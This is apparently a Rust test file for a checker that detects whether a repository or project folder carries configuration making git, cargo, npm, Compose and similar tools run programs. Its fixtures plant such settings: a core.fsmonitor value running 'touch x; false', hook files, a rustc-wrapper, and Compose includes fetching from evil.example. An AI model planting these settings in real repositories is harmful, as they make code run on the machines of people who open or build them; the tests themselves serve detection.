use super::*;
use std::fs::{create_dir_all, write};
use std::process::Command;

fn git(folder: &Path, arguments: &[&str]) {
    let own = ["-c", "user.name=a", "-c", "user.email=a@b", "-c", "protocol.file.allow=always", "-C"];
    let done = Command::new("git").args(own).arg(folder).args(arguments).output().unwrap();
    assert!(done.status.success(), "git {arguments:?}: {}", String::from_utf8_lossy(&done.stderr));
}

/// A repository with a file.
fn repository(folder: &Path) {
    create_dir_all(folder).unwrap();
    git(folder, &["init", "-q"]);
    write(folder.join("a"), "a").unwrap();
    git(folder, &["add", "a"]);
    git(folder, &["commit", "-qm", "a"]);
}

#[test]
fn a_repository_that_names_a_program_is_found() {
    let scratch = tempfile::tempdir().unwrap();
    let (top, part) = (scratch.path().join("top"), scratch.path().join("top/part"));
    repository(&top);
    create_dir_all(&part).unwrap();
    assert!(git::runs_nothing(&top) && git::runs_nothing(&part));
    for (name, value) in [
        ("core.fsmonitor", "touch x; false"),
        ("core.sshCommand", "x"),
        ("diff.external", "x"),
        ("filter.a.clean", "x"),
        ("diff.a.textconv", "x"),
        ("include.path", "../other"),
    ] {
        git(&top, &["config", name, value]);
        assert!(!git::runs_nothing(&top) && !git::runs_nothing(&part), "{name}");
        git(&top, &["config", "--unset", name]);
    }
    git(&top, &["config", "core.fsmonitor", "false"]);
    assert!(git::runs_nothing(&top));
    // The section and the variable in one line, without spaces.
    let file = top.join(".git/config");
    write(&file, std::fs::read_to_string(&file).unwrap() + "[CORE]FSMONITOR=x\n").unwrap();
    assert!(!git::runs_nothing(&top));
    write(&file, "[core").unwrap();
    assert!(!git::runs_nothing(&top));
}

#[test]
fn a_hook_that_reading_runs_is_found_wherever_it_is() {
    let scratch = tempfile::tempdir().unwrap();
    let top = scratch.path();
    repository(top);
    write(top.join(".git/hooks/pre-commit"), "").unwrap();
    assert!(git::runs_nothing(top));
    write(top.join(".git/hooks/post-index-change"), "").unwrap();
    assert!(!git::runs_nothing(top));
    git(top, &["config", "core.hooksPath", "hooks"]);
    assert!(git::runs_nothing(top));
    create_dir_all(top.join("hooks")).unwrap();
    write(top.join("hooks/post-index-change"), "").unwrap();
    assert!(!git::runs_nothing(top));
}

#[test]
fn repositories_within_one_are_looked_at() {
    let scratch = tempfile::tempdir().unwrap();
    let (top, other) = (scratch.path().join("top"), scratch.path().join("other"));
    repository(&top);
    repository(&other);
    git(&top, &["submodule", "--quiet", "add", "../other", "sub"]);
    assert!(git::runs_nothing(&top));
    git(&top.join("sub"), &["config", "core.fsmonitor", "x"]);
    assert!(!git::runs_nothing(&top));
    git(&top.join("sub"), &["config", "--unset", "core.fsmonitor"]);
    // A folder that looks like a repository without a working tree, and has one.
    let bare = top.join("docs");
    create_dir_all(&bare).unwrap();
    git(&bare, &["init", "-q", "--bare", "."]);
    git(&bare, &["config", "core.bare", "false"]);
    git(&bare, &["config", "core.worktree", "."]);
    assert!(git::runs_nothing(&bare));
    git(&bare, &["config", "core.fsmonitor", "x"]);
    assert!(!git::runs_nothing(&bare) && git::runs_nothing(&top));
}

#[test]
fn files_above_a_folder_count_and_those_that_cannot_be_read() {
    let scratch = tempfile::tempdir().unwrap();
    let folder = scratch.path().join("a/b");
    create_dir_all(folder.join(".cargo")).unwrap();
    use ProgramFamily as Family;
    let all = [Family::Any, Family::Azure, Family::Browser, Family::Compose, Family::Git, Family::Rust, Family::Node];
    assert!(all.iter().all(|runner| runs_nothing(*runner, &folder)));
    let is_found = |runner, name: &str, text: &str| {
        let file = scratch.path().join(name);
        write(&file, text).unwrap();
        let found = !runs_nothing(runner, &folder);
        std::fs::remove_file(file).unwrap();
        found
    };
    assert!(is_found(ProgramFamily::Rust, "rust-toolchain.toml", "[toolchain]\npath = \"x\"\n"));
    assert!(!is_found(ProgramFamily::Rust, "rust-toolchain.toml", "[toolchain]\nchannel = \"stable\"\n"));
    assert!(is_found(ProgramFamily::Rust, "a/b/.cargo/config.toml", "[build]\nrustc-wrapper = \"x\"\n"));
    assert!(is_found(ProgramFamily::Node, "a/.pnpmfile.cjs", "") && is_found(ProgramFamily::Node, ".npmrc", "git=x"));
    assert!(
        is_found(ProgramFamily::Any, "a/.tool-versions", "nodejs path:./x")
            && !is_found(ProgramFamily::Any, ".tool-versions", "nodejs 20")
    );
    assert!(is_found(ProgramFamily::Any, ".python-version", "../../x"));
    assert!(is_found(ProgramFamily::Azure, "a/b/json.py", "") && !is_found(ProgramFamily::Azure, "a/json.py", ""));
    create_dir_all(scratch.path().join("a/.azure")).unwrap();
    assert!(is_found(ProgramFamily::Azure, "a/.azure/config", ""));
    assert!(is_found(Family::Browser, "agent-browser.json", "{\"executablePath\":\"./x\"}"));
    assert!(!is_found(Family::Browser, "a/agent-browser.json", "{\"headed\":true}"));
    assert!(is_found(Family::Compose, "a/compose.yaml", "include: [https://evil.example/x.git]\n"));
    assert!(is_found(Family::Compose, "a/b/.env", "COMPOSE_FILE=oci://evil.example/x\n"));
    assert!(!is_found(Family::Compose, "compose.yaml", "services: {}\n"));
    // Bytes that are no text; a folder in place of a file; a link to a file that never ends.
    write(folder.join("rust-toolchain"), [0xff, 0xfe]).unwrap();
    assert!(!runs_nothing(ProgramFamily::Rust, &folder));
    std::fs::remove_file(folder.join("rust-toolchain")).unwrap();
    create_dir_all(folder.join("rust-toolchain")).unwrap();
    assert!(!runs_nothing(ProgramFamily::Rust, &folder));
    std::os::unix::fs::symlink("/dev/zero", folder.join(".npmrc")).unwrap();
    assert!(!runs_nothing(ProgramFamily::Node, &folder));
}
